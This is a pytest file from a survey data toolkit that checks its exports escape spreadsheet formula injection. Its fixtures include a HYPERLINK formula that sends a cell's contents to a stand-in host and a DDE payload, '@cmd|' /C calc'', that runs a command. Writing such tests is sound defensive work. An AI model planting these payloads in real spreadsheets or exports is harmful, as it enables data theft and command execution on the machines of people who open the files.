"""Formula injection: no export writes a respondent's or a label's text as a live formula.

Every CSV and XLSX the surveys write is read back (csv, openpyxl): text a spreadsheet would
take as a formula (``= + - @``, tab, CR first) comes back with a ``'`` in front, numbers come
back as numbers (also negative ones), and ordinary text as it was.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from fieldkit.extensions import db
from fieldkit.surveys.fieldwork import operations as surveys
from fieldkit.surveys.fieldwork import rates_output
from fieldkit.surveys.paper import codebook
from fieldkit.surveys.questionnaires import operations as questionnaires
from fieldkit.surveys.respond import operations as responses
from fieldkit.surveys.results import exports
from fieldkit.surveys.results.tables import Table

HOSTILE = """\
format: fieldkit-questionnaire/1
title: {nb: "Farlige svar"}
languages: [nb]
sections:
  - name: s1
    title: {nb: "Del 1"}
    questions:
      - name: q1
        type: single
        text: {nb: "=1+1 spørsmål"}
        options:
          - {code: "1", label: {nb: "@SUM(A1)"}}
          - {code: "2", label: {nb: "Nei"}}
      - no: "2"
        type: text
        text: {nb: "Fritekst"}
      - no: "3"
        type: text
        text: {nb: "Mer fritekst"}
      - no: "4"
        type: decimal
        text: {nb: "Et tall"}
"""

#: What a respondent typed -> what the spreadsheet must show.
ANSWERS = {
    "q2": ("=HYPERLINK(\"http://x.example/?\"&A1,\"klikk\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"klikk\")"),
    "q3": ("-2+3", "'-2+3"),
}  # fmt: skip
STRATUM = ("@cmd|' /C calc'!A0", "'@cmd|' /C calc'!A0")


@pytest.fixture
def hostile(app, make_project):
    project = make_project("farlig")
    record = questionnaires.import_questionnaire(project, "farlig.yaml", HOSTILE.encode())
    survey = surveys.create_survey(record, "Kartlegging")
    surveys.launch(survey)
    db.session.commit()
    case = surveys.add_case(survey, "K1", strata={"etat": STRATUM[0]})
    db.session.commit()
    response = responses.start_for_case(survey, case)
    answers = {"q1": "1", "q4": -2.5, **{name: typed for name, (typed, _) in ANSWERS.items()}}
    responses.save_answers(response, answers, list(answers))
    responses.submit(response)
    return survey


def _survey_csv(survey, tmp_path, fmt):
    path = tmp_path / "data.csv"
    exports.export(survey, fmt, path)
    if fmt == "csv_excel":
        return list(csv.reader(io.StringIO(path.read_text("utf-8-sig")), delimiter=";"))
    return list(csv.reader(io.StringIO(path.read_text("utf-8"))))


def _r_csv(survey, tmp_path):
    path = tmp_path / "r.zip"
    exports.export(survey, "r", path)
    with zipfile.ZipFile(path) as archive:
        return list(csv.reader(io.StringIO(archive.read("data.csv").decode())))


@pytest.mark.parametrize("read", ["csv", "csv_excel", "r"], ids=["csv", "csv_excel", "r_data_csv"])
def test_csv_exports_neutralise_formulas_and_keep_numbers(hostile, tmp_path, read):
    rows = _r_csv(hostile, tmp_path) if read == "r" else _survey_csv(hostile, tmp_path, read)
    row = dict(zip(rows[0], rows[1], strict=True))
    for name, (_typed, shown) in ANSWERS.items():
        assert row[f"{name}"] == shown
    assert row["etat"] == STRATUM[1]
    assert row["q4"] == ("-2,5" if read == "csv_excel" else "-2.5")
    assert row["q1"] == "1"


def test_xlsx_export_neutralises_formulas_and_keeps_numbers(hostile, tmp_path):
    path = tmp_path / "data.xlsx"
    exports.export(hostile, "xlsx", path)
    book = load_workbook(path)
    rows = [list(r) for r in book["Data"].values]
    row = dict(zip(rows[0], rows[1], strict=True))
    for name, (_typed, shown) in ANSWERS.items():
        assert row[name] == shown
    assert row["etat"] == STRATUM[1]
    assert row["q4"] == -2.5 and row["q1"] == 1
    # No cell of any sheet is a formula.
    assert all(c.data_type != "f" for sheet in book for r in sheet.iter_rows() for c in r)
    labels = {r[0]: r[1] for r in book["Variabler"].values}
    assert labels["q1"] == "'=1+1 spørsmål"
    assert ["q1", 1, "'@SUM(A1)"] in [list(r) for r in book["Verdier"].values]


def test_codebooks_neutralise_labels(hostile, tmp_path):
    path = tmp_path / "kodebok.xlsx"
    exports.export(hostile, "codebook", path)
    book = load_workbook(path)
    by_name = {r[0]: r for r in book["Variabler"].values}
    assert by_name["q1"][2] == "'=1+1 spørsmål"
    assert by_name["q1"][5] == "1 = @SUM(A1); 2 = Nei"  # starts with a digit: harmless
    assert ["q1", 1, "'@SUM(A1)"] in [list(r) for r in book["Verdietiketter"].values]
    questionnaire_book = load_workbook(io.BytesIO(codebook.codebook_xlsx(hostile.definition, "nb")))
    rows = [list(r) for r in questionnaire_book.worksheets[0].values]
    assert next(r for r in rows if r[0] == "q1")[2] == "'=1+1 spørsmål"
    assert all(
        c.data_type != "f" for sheet in questionnaire_book for r in sheet.iter_rows() for c in r
    )


def test_rates_csv_neutralises_stratum_names(hostile):
    rows = list(csv.reader(io.StringIO(rates_output.render(hostile, by="etat", fmt="csv"))))
    assert rows[1][0] == STRATUM[1]
    assert rows[1][1] == "1"


def test_table_csv_neutralises_text_and_keeps_formatted_numbers():
    table = Table(
        caption="=cap", header=["", "Antall", "Prosent"], rows=[["-Ja", "-3", "12,5"]], n=1,
        kind="frequency", notes=["+merknad"],
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO(table.as_csv()), delimiter=";"))
    assert rows == [["'=cap"], ["", "Antall", "Prosent"], ["'-Ja", "-3", "12,5"], ["'+merknad"]]
